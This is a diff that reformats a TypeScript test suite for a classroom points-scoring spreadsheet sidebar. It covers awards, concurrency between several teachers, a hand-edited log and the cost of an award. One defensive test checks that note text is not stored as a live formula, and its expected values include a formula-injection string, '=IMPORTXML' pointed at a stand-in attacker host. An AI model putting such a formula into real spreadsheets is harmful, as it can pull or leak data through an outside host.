@@ -72,9 +72,14 @@ describe('Scoring sidebar: awards, undo, reversal', () => {
 
   it('refuses awards before any grouping, for unknown students and with no category, saying what to do', async () => {
     const s = await open({ locale: 'en', workbookOptions: { sheets: { Roster: ROSTER_ZH } } });
-    expect(s.call('awardPoints', { studentIds: ['2024001'], category: 'Study', points: 2 })).toMatchObject({ ok: false, message: expect.stringMatching(/Form groups/) });
+    expect(s.call('awardPoints', { studentIds: ['2024001'], category: 'Study', points: 2 })).toMatchObject({
+      ok: false,
+      message: expect.stringMatching(/Form groups/),
+    });
     s.call('formGroupsRun', formGroupsRequest);
-    expect(s.call('awardPoints', { studentIds: ['nobody'], category: 'Study', points: 2 }).message).toMatch(/not in the current groups/);
+    expect(s.call('awardPoints', { studentIds: ['nobody'], category: 'Study', points: 2 }).message).toMatch(
+      /not in the current groups/,
+    );
     expect(s.call('awardPoints', { studentIds: ['2024001'], category: '', points: 2 }).message).toMatch(/category/);
     expect(s.si.workbook.findSheet('Points log')).toBeUndefined();
   });
@@ -86,7 +91,12 @@ describe('Scoring sidebar: awards, undo, reversal', () => {
       expect(s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1, note }).ok).toBe(true);
     }
     const log = s.si.workbook.sheet('积分记录');
-    expect(log.formulas().flat().filter((f) => f !== '')).toEqual([]);
+    expect(
+      log
+        .formulas()
+        .flat()
+        .filter((f) => f !== ''),
+    ).toEqual([]);
     expect(logRows(s).map((r) => r[7])).toEqual(['=IMPORTXML("http://evil.example","//a")', '+1', '-2', '@x']);
   });
 });
@@ -143,12 +153,21 @@ describe('Concurrency: several teachers at once lose nothing', () => {
   it('three teachers clicking in turn while the lock is often busy: every queued award ends up in the log', async () => {
     const a = await grouped();
     const users = [a, await otherUser(a, 'b@example.com'), await otherUser(a, 'c@example.com')];
-    const ids: string[] = a.call('scoringState').groups.flatMap((g: { members: { id: string }[] }) => g.members.map((m) => m.id));
-    const queues: { requestId: string; studentIds: string[]; category: string; points: number }[][] = users.map(() => []);
+    const ids: string[] = a
+      .call('scoringState')
+      .groups.flatMap((g: { members: { id: string }[] }) => g.members.map((m) => m.id));
+    const queues: { requestId: string; studentIds: string[]; category: string; points: number }[][] = users.map(
+      () => [],
+    );
     let n = 0;
     for (let round = 0; round < 20; round++) {
       users.forEach((u, k) => {
-        queues[k]!.push({ requestId: `req-${k}-${round}-xxxxxxxx`, studentIds: [ids[(round * 3 + k) % ids.length]!], category: '学习', points: 1 });
+        queues[k]!.push({
+          requestId: `req-${k}-${round}-xxxxxxxx`,
+          studentIds: [ids[(round * 3 + k) % ids.length]!],
+          category: '学习',
+          points: 1,
+        });
         n++;
       });
       // Someone holds the lock during every other round (a slow write elsewhere).
@@ -166,7 +185,9 @@ describe('Concurrency: several teachers at once lose nothing', () => {
       });
       if (held) holder.si.endExecution();
     }
-    users.forEach((u, k) => { for (const req of queues[k]!) expect(u.call('awardPoints', req).ok).toBe(true); });
+    users.forEach((u, k) => {
+      for (const req of queues[k]!) expect(u.call('awardPoints', req).ok).toBe(true);
+    });
     const rows = logRows(a);
     expect(rows).toHaveLength(n);
     expect(new Set(rows.map((r) => r[10])).size).toBe(n);
@@ -185,7 +206,9 @@ describe('A log edited by hand', () => {
     const rows = log.values();
     // Row 3 "deleted" (cleared), a broken row 4 with points "abc", row 5 for a student no longer on the roster.
     s.si.workbook.setSheet('积分记录', [
-      rows[0]!, rows[1]!, ['', '', '', '', '', '', '', '', '', '', ''],
+      rows[0]!,
+      rows[1]!,
+      ['', '', '', '', '', '', '', '', '', '', ''],
       ['x1', '2026-11-20T08:00:00.000Z', m.id, m.name, '', '学习', 'abc', '', '', '', ''],
       ['x2', '2026-11-20T08:00:00.000Z', 'GONE', '转学生', '', '纪律', 3, '', '', '', ''],
     ]);
@@ -198,7 +221,12 @@ describe('A log edited by hand', () => {
     expect(s.call('scoringState').totals[m.id]).toBe(4);
     const t = s.call('updateTallies');
     expect(t.ok).toBe(true);
-    expect(s.si.workbook.sheet('积分汇总').values().some((r) => r[0] === 'GONE')).toBe(true);
+    expect(
+      s.si.workbook
+        .sheet('积分汇总')
+        .values()
+        .some((r) => r[0] === 'GONE'),
+    ).toBe(true);
   });
 });
 
@@ -210,14 +238,31 @@ describe('Cost of an award', () => {
       s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1 });
       const log = s.si.workbook.sheet('积分记录');
       const header = log.values()[0]!;
-      const filler = Array.from({ length: logLength }, (_, i) => [`e${i}`, '2026-11-01T00:00:00.000Z', m.id, m.name, '', '学习', 1, '', '', '', `e${i}`]);
+      const filler = Array.from({ length: logLength }, (_, i) => [
+        `e${i}`,
+        '2026-11-01T00:00:00.000Z',
+        m.id,
+        m.name,
+        '',
+        '学习',
+        1,
+        '',
+        '',
+        '',
+        `e${i}`,
+      ]);
       s.si.workbook.setSheet('积分记录', [header, ...filler]);
       // A sheet filled to its last row grows once by 1,000 rows on the next append; measure the award after that.
       s.si.workbook.resetStats();
       expect(s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1 }).ok).toBe(true);
       expect(s.si.workbook.stats.calls['Sheet.insertRowsAfter'] ?? 0).toBe(logLength >= 1000 ? 1 : 0);
       s.si.workbook.resetStats();
-      const r = s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1, requestId: 'req-cost-000001' });
+      const r = s.call('awardPoints', {
+        studentIds: [m.id],
+        category: '学习',
+        points: 1,
+        requestId: 'req-cost-000001',
+      });
       expect(r.message).toBeUndefined();
       return { ...s.si.workbook.stats };
     };
